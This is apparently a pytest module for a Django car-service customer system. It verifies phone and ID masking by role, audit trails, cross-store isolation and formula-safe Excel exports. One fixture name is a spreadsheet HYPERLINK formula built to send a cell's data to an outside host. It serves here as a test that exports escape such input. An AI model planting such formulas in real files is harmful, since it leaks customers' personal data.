"""F-1.7: phone and ID numbers stay hidden from roles that may not see them, on every path."""

import io

from django.urls import reverse
from openpyxl import load_workbook
from rest_framework.test import APIClient

from pitstop.core.models import AuditEntry
from pitstop.customers import services
from pitstop.customers.models import Customer

from .factories import CustomerFactory


def _api(user) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


def test_edit_form_does_not_carry_numbers_a_care_agent_may_not_see(login, care_agent, store_a):
    customer = CustomerFactory(store=store_a, mobile="13812345678", id_number="11010519491231002X")
    client = login(care_agent)
    page = client.get(reverse("customers:customer_edit", args=[customer.pk])).content.decode()
    assert "13812345678" not in page and "11010519491231002X" not in page
    assert 'placeholder="138****5678"' in page
    form = {
        "kind": "person",
        "name": "新名字",
        "customer_type": "private",
        "source": "walk_in",
        "mobile": "",
        "id_number": "",
    }
    assert client.post(reverse("customers:customer_edit", args=[customer.pk]), form).status_code == 302
    customer.refresh_from_db()
    assert (customer.name, customer.mobile, customer.id_number) == (
        "新名字",
        "13812345678",
        "11010519491231002X",
    )


def test_masked_roles_cannot_guess_hidden_digits(care_agent, store_a):
    CustomerFactory(store=store_a, mobile="13899998000")
    api = _api(care_agent)

    def found(**params):
        return api.get("/api/v1/customers/", params).json()["count"]

    assert found(mobile="1389999") == 0 and found(q="1389999") == 0  # hidden digits
    assert found(mobile="99998") == 0 and found(q="9999") == 0
    assert found(mobile="8000") == 1 and found(mobile="138") == 1  # what the mask shows
    assert found(mobile="13899998000") == 1 and found(q="13899998000") == 1  # the whole number


def test_advisors_may_search_any_digits(advisor, store_a):
    CustomerFactory(store=store_a, mobile="13899998000")
    assert _api(advisor).get("/api/v1/customers/", {"q": "99998"}).json()["count"] == 1


def test_api_lists_mask_and_a_single_read_reveals_with_an_audit_row(advisor, store_a):
    customer = CustomerFactory(store=store_a, mobile="13812345678")
    api = _api(advisor)
    assert api.get("/api/v1/customers/").json()["results"][0]["mobile"] == "138****5678"
    assert api.get("/api/v1/search/", {"q": "5678"}).json()["customers"][0]["mobile"] == "138****5678"
    assert not AuditEntry.objects.filter(action="reveal").exists()
    assert api.get(f"/api/v1/customers/{customer.pk}/").json()["mobile"] == "13812345678"
    assert AuditEntry.objects.filter(action="reveal", actor=advisor, note="api").count() == 1


def test_sending_back_a_masked_number_keeps_the_real_one(care_agent, store_a):
    customer = CustomerFactory(store=store_a, mobile="13812345678")
    api = _api(care_agent)
    record = api.get(f"/api/v1/customers/{customer.pk}/").json()
    record.update(name="改名", tier=None)
    response = api.put(f"/api/v1/customers/{customer.pk}/", record, format="json")
    assert response.status_code == 200, response.json()
    customer.refresh_from_db()
    assert (customer.name, customer.mobile) == ("改名", "13812345678")


def test_changing_hidden_digits_still_leaves_a_trail(advisor, store_a):
    customer = services.customer_create(
        actor=advisor, store=store_a, data={"name": "陈静", "mobile": "13800138000"}
    )
    services.customer_update(actor=advisor, customer=customer, data={"mobile": "13899998000"})
    entry = AuditEntry.objects.get(object_id=str(customer.pk), action="update")
    before, after = entry.changes["mobile"]
    assert before != after and before.startswith("138****8000") and after.startswith("138****8000")
    assert "13899998000" not in str(entry.changes)


def test_exports_are_permission_checked_audited_and_formula_safe(login, advisor, store_a, make_staff):
    CustomerFactory(store=store_a, name='=HYPERLINK("http://x/?"&C2,"点击")', mobile="13812345678")
    response = login(advisor).get(reverse("customers:customer_list"), {"format": "xlsx", "type": "private"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet["B2"].data_type == "s" and sheet["B2"].value.startswith("'=")
    entry = AuditEntry.objects.get(action="export", actor=advisor)
    assert entry.changes["list"] == [None, "customers"] and entry.changes["rows"] == [None, 1]
    technician = make_staff("technician", store_a)
    assert login(technician).get(reverse("customers:vehicle_list"), {"format": "xlsx"}).status_code == 403


def test_the_browsable_api_is_off(login, advisor, store_b):
    CustomerFactory(store=store_b, name="秘密客户B")
    response = login(advisor).get("/api/v1/vehicles/", HTTP_ACCEPT="text/html")
    assert "秘密客户B" not in response.content.decode()
    assert response["Content-Type"].startswith("application/json")


def test_another_stores_customer_reads_like_a_missing_one(advisor, store_a, store_b):
    theirs = CustomerFactory(store=store_b)
    api = _api(advisor)
    hidden = api.post(
        "/api/v1/vehicles/", {"vin": "LSVAU2184N0000001", "owner": theirs.pk}, format="json"
    ).json()
    missing = api.post(
        "/api/v1/vehicles/", {"vin": "LSVAU2184N0000001", "owner": 999999}, format="json"
    ).json()
    assert hidden["owner"][0].replace(str(theirs.pk), "N") == missing["owner"][0].replace("999999", "N")
    assert Customer.objects.filter(store=store_a).count() == 0


def test_clearing_a_photo(login, advisor, store_a):
    from django.core.files.uploadedfile import SimpleUploadedFile

    customer = CustomerFactory(store=store_a)
    gif = (
        b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,"
        b"\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
    )
    form = {
        "kind": "person",
        "name": customer.name,
        "mobile": customer.mobile,
        "customer_type": "private",
        "source": "walk_in",
    }
    client = login(advisor)
    url = reverse("customers:customer_edit", args=[customer.pk])
    client.post(url, {**form, "photo": SimpleUploadedFile("p.gif", gif, content_type="image/gif")})
    customer.refresh_from_db()
    assert customer.photo
    assert client.get(reverse("customers:customer_photo", args=[customer.pk])).status_code == 200
    assert client.post(url, {**form, "photo-clear": "on"}).status_code == 302
    customer.refresh_from_db()
    assert not customer.photo
